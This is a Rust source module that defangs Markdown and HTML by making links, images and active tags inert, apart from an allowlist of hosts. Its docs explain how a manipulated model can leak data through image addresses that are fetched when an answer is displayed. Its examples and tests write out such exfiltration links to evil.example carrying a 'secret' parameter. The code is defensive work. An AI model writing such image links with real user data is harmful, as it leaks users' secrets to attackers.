//! Defanging: takes a text in Markdown or HTML, returns it without live links, images and active
//! tags, except for links to an allowlist of hosts.
//!
//! [`defang`] allows no host; [`defang_except`] takes an [`Allowlist`].
//!
//! ```
//! use secure_tool_text::defang::{Allowlist, defang, defang_except};
//!
//! let text = "See [your order](https://shop.example/1) ![x](https://evil.example/?d=secret)";
//! let allowed = Allowlist::new(vec!["shop.example".into()])?;
//! let defanged = defang_except(text, &allowed);
//! assert_eq!(
//!     defanged.text,
//!     "See [your order](https://shop.example/1) ![x] (image removed: evil[.]example)"
//! );
//! assert_eq!((defanged.counts.links(), defanged.counts.images()), (0, 1));
//! assert_eq!(defang(text).counts.links(), 1);
//! # Ok::<(), secure_tool_text::Error>(())
//! ```
//!
//! A model that was talked into it carries data out by what it writes: a picture whose address
//! holds the data is fetched as soon as the answer is shown, a link as soon as it is clicked. So
//! each construct of markdown and HTML that loads or leads is looked at where it stands, whatever
//! is around it: code, comments, quotations. Readers differ in these, and no reader is trusted to
//! see what another one sees.
//!
//! | in the text | what becomes of it, if it is not allowed |
//! |--|--|
//! | `[text](address "title")`, `![text](address)` | `[text] (link removed: host)`, `[text] (image removed: host)` |
//! | the same, so written that readers differ on its end | `[text] (…`, which is no link |
//! | `[label]: address` where a definition may stand | `[label] : address`, which defines nothing |
//! | `<https://host/…>` | `(link removed: host)` |
//! | `<img src=… alt="words">`, `<a href=…>`, other elements with an attribute that is not known to be harmless | `(image removed: words)`, `(link removed: host)`, `(form removed)` |
//! | `<script>`, `<style>`, a tag that does not end, `<scheme:…>` | `< script>`, which is no tag |
//! | `https://host/path?query`, `www.host/path` | `hxxps://host/path…`, `www[.]host/path`, with `[.]` for the dots of the host |
//! | `scheme://…` of other schemes | `scheme[:]//…` |
//! | an address whose letters are escaped (`https&colon;//…`) | as the address |
//!
//! Allowed is `https` to a host of the list or below one (see [`Allowlist`]); a
//! destination within the page, or on the page's own host, is not. Doing it twice changes nothing
//! more, and it takes time linear in the text, whatever the text is. It reads forward only and
//! never looks back further than a few bytes, so that it serves streams too.
//!
//! It does not look at bare names (`evil.example/x`), which some readers guess links from, nor at
//! e-mail addresses.

mod allow;
mod entity;
mod inert;
mod inline;
mod scan;
mod tag;

use std::borrow::Cow;

pub use allow::Allowlist;
pub use scan::Scanner;

/// How many links and images were made inert.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Counts {
    images: u32,
    links: u32,
}

impl Counts {
    fn image(&mut self) {
        self.images = self.images.saturating_add(1);
    }

    fn link(&mut self) {
        self.links = self.links.saturating_add(1);
    }

    /// Returns how many links, tags and definitions were made inert.
    #[must_use]
    pub const fn links(self) -> u32 {
        self.links
    }

    /// Returns how many images were made inert.
    #[must_use]
    pub const fn images(self) -> u32 {
        self.images
    }

    /// Returns the stable ids of what was found, `defanged.image` and `defanged.link`, and how
    /// often.
    pub fn found(self) -> impl Iterator<Item = (&'static str, u32)> {
        [("defanged.image", self.images), ("defanged.link", self.links)]
            .into_iter()
            .filter(|(_, count)| *count > 0)
    }
}

/// A text without live links, and what was made inert.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Defanged<'t> {
    /// The text; borrowed if nothing was changed.
    pub text: Cow<'t, str>,
    /// How many links and images were made inert.
    pub counts: Counts,
}

/// Makes all links, images and active tags of a text inert. Idempotent; takes time linear in the
/// text.
///
/// ```
/// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
/// assert_eq!(defanged.text, "![] (image removed: evil[.]example)");
/// ```
#[must_use]
pub fn defang(text: &str) -> Defanged<'_> {
    defang_except(text, &Allowlist::default())
}

/// Makes links, images and active tags inert, except for `https` links and images to allowed hosts
/// and their subdomains. Idempotent; takes time linear in the text.
///
/// See [the module](self) for an example.
#[must_use]
pub fn defang_except<'t>(text: &'t str, allowed: &Allowlist) -> Defanged<'t> {
    let mut counts = Counts::default();
    Defanged { text: defang_counted(text, allowed, &mut counts), counts }
}

/// Does what [`defang_except`] does, and adds to the counts of several texts.
///
/// ```
/// use secure_tool_text::defang::{Allowlist, Counts, defang_counted};
///
/// let mut counts = Counts::default();
/// for text in ["[a](https://evil.example)", "<https://evil.example>"] {
///     assert!(defang_counted(text, &Allowlist::default(), &mut counts).contains("(link removed"));
/// }
/// assert_eq!(counts.links(), 2);
/// ```
pub fn defang_counted<'a>(text: &'a str, allowed: &Allowlist, counts: &mut Counts) -> Cow<'a, str> {
    let mut scanner = Scanner::new(allowed.clone());
    let mut out = String::new();
    scanner.pass(text, true, &mut out);
    counts.images = counts.images.saturating_add(scanner.counts.images);
    counts.links = counts.links.saturating_add(scanner.counts.links);
    if scanner.changed { out.into() } else { text.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_harmless_is_borrowed_and_what_is_not_is_counted() {
        let allowed = Allowlist::new(vec!["shop.example".into()]).expect("a host");
        let mut counts = Counts::default();
        for honest in [
            "",
            "plain, a[0](), 1 < 2 & 3",
            "[a](https://shop.example/x) https://www.shop.example",
            "caf\u{e9} \\ &eacute;",
        ] {
            assert!(
                matches!(defang_counted(honest, &allowed, &mut counts), Cow::Borrowed(same) if same == honest),
                "{honest}"
            );
        }
        assert_eq!(counts.found().count(), 0);
        defang_counted(
            "![a](//evil.example) <img src=x> [a](b) https://evil.example [![a](b)](c)",
            &allowed,
            &mut counts,
        );
        assert_eq!(
            counts.found().collect::<Vec<_>>(),
            [("defanged.image", 3), ("defanged.link", 3)]
        );
    }
}
